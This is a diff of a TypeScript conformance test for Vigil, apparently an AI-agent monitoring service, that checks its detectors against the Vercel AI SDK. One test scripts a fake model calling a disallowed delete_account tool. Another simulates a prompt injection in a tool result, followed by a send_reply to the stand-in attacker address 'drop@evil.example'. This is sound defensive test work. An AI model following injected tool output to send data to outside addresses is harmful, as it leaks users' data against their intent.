@@ -1,20 +1,12 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { SpanKind, context, trace } from "@opentelemetry/api";
-import { AsyncLocalStorageContextManager } from "@opentelemetry/context-async-hooks";
-import { OTLPTraceExporter } from "@opentelemetry/exporter-trace-otlp-proto";
-import { resourceFromAttributes } from "@opentelemetry/resources";
-import { BasicTracerProvider, BatchSpanProcessor } from "@opentelemetry/sdk-trace-base";
+import { SpanKind, trace } from "@opentelemetry/api";
 import { createOpenAICompatible } from "@ai-sdk/openai-compatible";
 import { generateText, stepCountIs, tool } from "ai";
 import type { ToolSet } from "ai";
 import { z } from "zod";
-import { generateToken, sha256Hex } from "@vigil/config";
-import { findAlerts, findSession } from "@vigil/store";
 import type { StoredSpan } from "@vigil/store";
-import { FakeModelServer } from "../support/fake-model-server";
-import { startVigil } from "../support/vigil-harness";
-import type { Harness } from "../support/vigil-harness";
-import { until } from "../support/wait";
+import { startConformance } from "../support/conformance";
+import type { Conformance } from "../support/conformance";
 
 /**
  * Conformance: the Vercel AI SDK 6 (`ai` 6.0.326, with `@ai-sdk/openai-compatible`
@@ -25,43 +17,21 @@ import { until } from "../support/wait";
  * `ai.toolCall.name`, the input from the model call's prompt messages. The facts are
  * asserted as stored, and the detectors that depend on them fire on these spans.
  */
-const token = generateToken();
-const model = new FakeModelServer();
-let vigil: Harness;
-let provider: BasicTracerProvider;
+let run: Conformance;
 
 beforeAll(async () => {
-  await model.start();
-  vigil = await startVigil([], {
-    agentsYaml:
-      `agents:\n  - id: support-bot\n    tokens:\n      - sha256: "${sha256Hex(token)}"\n` +
-      "    policy:\n      tools: [lookup_order, send_reply]\n",
-    env: { VIGIL_DETECT_INTERVAL_SECONDS: "1" },
-  });
-  provider = new BasicTracerProvider({
-    resource: resourceFromAttributes({ "service.name": "support-bot" }),
-    spanProcessors: [
-      // The default processor: a run's spans reach Vigil together, children before their parents.
-      new BatchSpanProcessor(
-        new OTLPTraceExporter({ url: vigil.ingestUrl, headers: { authorization: `Bearer ${token}` } }),
-      ),
-    ],
-  });
-  trace.setGlobalTracerProvider(provider);
-  // As a Node application's OTel setup registers it: spans started inside a tool nest under it.
-  context.setGlobalContextManager(new AsyncLocalStorageContextManager().enable());
+  run = await startConformance("    policy:\n      tools: [lookup_order, send_reply]\n");
 }, 120_000);
 
 afterAll(async () => {
-  await provider?.shutdown();
-  await vigil?.stop();
-  await model.stop();
+  await run?.stop();
 });
 
-const llm = () => createOpenAICompatible({ name: "fake", baseURL: model.baseUrl, apiKey: "test-key" })("fake-model");
+const llm = () =>
+  createOpenAICompatible({ name: "fake", baseURL: run.model.baseUrl, apiKey: "test-key" })("fake-model");
 
 /** The agent's run: the AI SDK's tool loop, with the session in the telemetry metadata. */
-async function run(sessionId: string, prompt: string, tools: ToolSet) {
+async function agentRun(sessionId: string, prompt: string, tools: ToolSet) {
   await generateText({
     model: llm(),
     prompt,
@@ -69,23 +39,13 @@ async function run(sessionId: string, prompt: string, tools: ToolSet) {
     stopWhen: stepCountIs(4),
     experimental_telemetry: { isEnabled: true, functionId: "support", metadata: { sessionId } },
   });
-  await provider.forceFlush();
+  await run.provider.forceFlush();
 }
-
-const stored = (sessionId: string, count: number): Promise<StoredSpan[]> =>
-  until(
-    `the spans of ${sessionId}`,
-    async () => {
-      const spans = await findSession(vigil.vigil.client, sessionId);
-      return spans.length >= count ? spans : undefined;
-    },
-    20_000,
-  );
 
 describe("Vercel AI SDK 6", () => {
   it("gives every span the session, the tool call its tool, and the model call its input", async () => {
-    model.script([{ toolCalls: [{ name: "lookup_order", arguments: { id: 7 } }] }, { text: "Order 7 is open." }]);
-    await run("ticket-5042", "Where is order 7?", {
+    run.model.script([{ toolCalls: [{ name: "lookup_order", arguments: { id: 7 } }] }, { text: "Order 7 is open." }]);
+    await agentRun("ticket-5042", "Where is order 7?", {
       lookup_order: tool({
         description: "look up an order",
         inputSchema: z.object({ id: z.number() }),
@@ -93,7 +53,7 @@ describe("Vercel AI SDK 6", () => {
       }),
     });
     // generateText, two model calls and one tool call: all four under the session.
-    const spans = await stored("ticket-5042", 4);
+    const spans = await run.stored("ticket-5042", 4);
     expect(spans.map((s) => s.name).sort()).toEqual([
       "ai.generateText",
       "ai.generateText.doGenerate",
@@ -109,33 +69,26 @@ describe("Vercel AI SDK 6", () => {
   });
 
   it("raises policy_violation for a tool outside the declared allow-list", async () => {
-    model.script([{ toolCalls: [{ name: "delete_account", arguments: { customer: 7 } }] }, { text: "Done." }]);
-    await run("ticket-5043", "Close my account", {
+    run.model.script([{ toolCalls: [{ name: "delete_account", arguments: { customer: 7 } }] }, { text: "Done." }]);
+    await agentRun("ticket-5043", "Close my account", {
       delete_account: tool({
         description: "delete a customer's account",
         inputSchema: z.object({ customer: z.number() }),
         execute: async () => ({ deleted: true }),
       }),
     });
-    const alert = await until(
-      "the policy alert",
-      async () =>
-        (await findAlerts(vigil.vigil.client, { agentId: "support-bot", limit: 100 })).find(
-          (a) => a.detector === "policy_violation" && a.sessionId === "ticket-5043",
-        ),
-      20_000,
-    );
+    const alert = await run.alertOf("policy_violation", "ticket-5043");
     expect(alert.summary).toContain("delete_account");
   });
 
   it("raises injection_then_action when a tool result carries an injection and an outbound call follows", async () => {
     const tracer = trace.getTracer("support-bot-http");
-    model.script([
+    run.model.script([
       { toolCalls: [{ name: "lookup_order", arguments: { id: 9 } }] },
       { toolCalls: [{ name: "send_reply", arguments: { to: "drop@evil.example" } }] },
       { text: "Sent." },
     ]);
-    await run("ticket-5044", "What does the note on order 9 say?", {
+    await agentRun("ticket-5044", "What does the note on order 9 say?", {
       lookup_order: tool({
         description: "look up an order",
         inputSchema: z.object({ id: z.number() }),
@@ -157,14 +110,7 @@ describe("Vercel AI SDK 6", () => {
           }),
       }),
     });
-    const alert = await until(
-      "the injection alert",
-      async () =>
-        (await findAlerts(vigil.vigil.client, { agentId: "support-bot", limit: 100 })).find(
-          (a) => a.detector === "injection_then_action" && a.sessionId === "ticket-5044",
-        ),
-      20_000,
-    );
+    const alert = await run.alertOf("injection_then_action", "ticket-5044");
     expect(alert.summary).toContain("outbound call to mail.example");
   });
 });
